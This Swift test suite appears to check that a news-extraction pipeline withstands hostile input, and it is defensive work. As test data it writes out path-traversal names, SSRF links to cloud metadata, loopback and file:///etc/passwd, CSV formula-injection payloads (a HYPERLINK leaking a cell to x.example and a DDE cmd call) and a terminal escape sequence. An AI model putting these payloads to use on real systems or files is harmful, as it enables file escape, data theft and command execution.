import Foundation
import Loopback
import Testing

@Suite("What sources say cannot reach beyond the store and the outputs", .serialized)
struct SecurityTests {
  /// Names that lead elsewhere where somebody makes a path of them.
  private static let names = [
    "../../escaped", "/tmp/demarche-escaped", "..%2f..%2fescaped", "a\\..\\escaped", "escaped\\u0000.txt",
    "~/escaped",
    "C:\\\\escaped", ".demarche/lock", "out/statements.csv",
  ]

  private static func text(_ name: String) -> String {
    "We reject the plan for \(name.utf8.count) bridges,\\\" minister Mira Solen of Sarnia said on Friday."
  }

  /// Every path below a folder that is neither in the store nor in what is published.
  private func others(_ folder: String) throws -> Set<String> {
    Set(
      try FileManager.default.subpathsOfDirectory(atPath: folder).filter {
        !$0.hasPrefix("press/.demarche") && !$0.hasPrefix("press/.runs") && $0 != "press/out"
      })
  }

  @Test("identifiers, outlets, locators of JSON Lines, WARC and feeds are values, never paths")
  func names() throws {
    let workplace = try Workplace()
    let lines = Self.names.map { name in
      "{\"id\":\"\(name)\",\"url\":\"file:///etc/\(name)\",\"title\":\"\(name)\",\"outlet\":\"\(name)\",\"text\":\"\\\"\(Self.text(name))\"}\n"
    }
    try workplace.write(lines.joined(), to: "press/notes.jsonl")
    let records = Self.names.map { name in
      let body =
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"../../escaped\"\r\n\r\n<html><body><article><p>The bridge at \(name.utf8.count) was inspected on a dry day, and all of it was written down in a green book that may be read by anybody.</p></article></body></html>"
      return
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://x.example/../../\(name)\r\nWARC-Date: 2025-03-14T00:00:00Z\r\nWARC-Filename: ../../escaped\r\nWARC-Record-ID: <urn:x:\(name)>\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)\r\n\r\n"
    }
    try workplace.write(records.joined(), to: "press/crawl.warc")
    let items = Self.names.map { name in
      "<item><title>\(name)</title><guid>\(name)</guid><link>file:///\(name)</link><enclosure url=\"../../escaped\" type=\"text/html\"/><description>The bridge of \(name.utf8.count) metres was inspected on a dry day.</description></item>"
    }
    try workplace.write(
      "<rss version=\"2.0\"><channel><title>x</title>\(items.joined())</channel></rss>", to: "press/feed.xml")
    try workplace.write(
      Workplace.pipeline(
        sources: "- { jsonl: notes.jsonl }\n        - { warc: crawl.warc }\n        - { feed: feed.xml }"),
      to: "press/pipeline.yaml")
    let before = try others(workplace.folder)
    let run = try Program.run("run", "pipeline.yaml", in: workplace.folder + "/press")
    #expect(run.status == 0 || run.status == 3, "\(run.errors)")
    #expect(try workplace.rows("press/out/articles.jsonl").count > Self.names.count)
    #expect(try others(workplace.folder) == before)
    #expect(!FileManager.default.fileExists(atPath: "/tmp/demarche-escaped"))
    let published = try FileManager.default.contentsOfDirectory(atPath: workplace.folder + "/press/out")
      .filter { $0 != "run" }
    let told = try FileManager.default.contentsOfDirectory(atPath: workplace.folder + "/press/out/run")
    #expect(
      (published + told).allSatisfy {
        $0.hasSuffix(".csv") || $0.hasSuffix(".json") || $0.hasSuffix(".jsonl")
      })
  }

  @Test(
    "a name in a pipeline file that would become a path elsewhere is a mistake in the file",
    arguments: [
      ("pipeline: press", "pipeline: ../press"), ("folder: out", "folder: ."), ("folder: out", "folder: .."),
      ("folder: out", "folder: /"), ("aggregate: {", "../aggregate: { uses: aggregate,"),
      (
        "aggregate: { inputs: [deduplicate] }",
        "aggregate: { inputs: [deduplicate], with: { tables: [ { name: ../x, group_by: [act] } ] } }"
      ),
      (
        "aggregate: { inputs: [deduplicate] }",
        "c: { uses: command, inputs: [normalize], with: { command: [cat], output: ../X, columns: [ { name: id } ] } }"
      ),
      (
        "aggregate: { inputs: [deduplicate] }",
        "c: { uses: command, inputs: [normalize], with: { command: [cat], files: [../x] } }"
      ),
    ])
  func pipelineNames(old: String, new: String) throws {
    let workplace = try Workplace()
    let text = Workplace.pipeline()
    #expect(text.contains(old))
    try workplace.write("text", to: "press/articles/a.txt")
    try workplace.write("x", to: "x")
    try workplace.write(text.replacingOccurrences(of: old, with: new), to: "press/pipeline.yaml")
    let run = try Program.run("run", "pipeline.yaml", in: workplace.folder + "/press")
    #expect(run.status == 78, "\(run.errors)")
    #expect(run.errors.contains("pipeline.yaml:"), "\(run.errors)")
  }

  @Test("a feed that leads to this machine, to files and to other schemes is not followed")
  func serverSideRequests() throws {
    let inner = try LoopbackServer { _ in LoopbackServer.response(200, "secret") }
    let links = [
      inner.url("/metadata"), "http://localhost:\(inner.port)/", "http://[::1]:\(inner.port)/",
      "http://0x7f000001:\(inner.port)/",
      "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "gopher://127.0.0.1:\(inner.port)/",
      "ftp://127.0.0.1/",
    ]
    let items = links.map { "<item><title>x</title><link>\($0)</link></item>" }
    let workplace = try Workplace()
    try workplace.write(links.filter { $0.hasPrefix("http") }.joined(separator: "\n"), to: "list.txt")
    try workplace.write("<rss version=\"2.0\"><channel>\(items.joined())</channel></rss>", to: "feed.xml")
    try workplace.write(
      Workplace.pipeline(sources: "- { urls_file: list.txt, retries: 0 }\n        - { feed: feed.xml }"),
      to: "pipeline.yaml")
    let run = try Program.run("run", "pipeline.yaml", in: workplace.folder)
    #expect(run.status == 0, "\(run.errors)")
    #expect(inner.requests.isEmpty)
    let rejects = try workplace.rows("out/rejects.jsonl").compactMap { $0["reason"] as? String }
    #expect(rejects.count { $0 == "forbidden_address" } >= 5, "\(rejects)")
    let published = try workplace.read("out/articles.jsonl")
    #expect(!published.contains("secret") && !published.contains("root:"))
  }

  @Test(
    "what begins like a formula stands in the CSV as it was said, quoted; the JSON and SQLite forms have the same text"
  )
  func formulas() throws {
    let workplace = try Workplace()
    let title = "=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"Click\\\")"
    try workplace.write(
      "{\"id\":\"1\",\"title\":\"\(title)\",\"outlet\":\"+1+cmd|' /C calc'!A0\",\"text\":\"\\\"\(Self.text("x"))\"}\n",
      to: "notes.jsonl")
    try workplace.write(Workplace.pipeline(sources: "- jsonl: notes.jsonl"), to: "pipeline.yaml")
    #expect(try Program.run("run", "--quiet", "pipeline.yaml", in: workplace.folder).status == 0)
    let csv = try workplace.read("out/statements.csv")
    #expect(csv.contains(",\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\","), "\(csv)")
    #expect(csv.contains(",\"+1+cmd|' /C calc'!A0\","))
    let row = try #require(try workplace.rows("out/statements.jsonl").first)
    #expect(row["title"] as? String == "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")")
  }

  @Test("a title that is a control sequence is shown without it")
  func terminal() throws {
    let workplace = try Workplace()
    try workplace.write(
      "PORT ALDEN - \"We \u{1B}]0;owned\u{7}reject the plan,\" minister Mira Solen of Sarnia said.\n",
      to: "a.txt")
    let shown = try Program.run("extract", "a.txt", in: workplace.folder)
    #expect(shown.status == 0 && shown.output.contains("reject the plan"))
    #expect(!shown.output.utf8.contains(0x1B) && !shown.output.utf8.contains(0x07))
  }
}
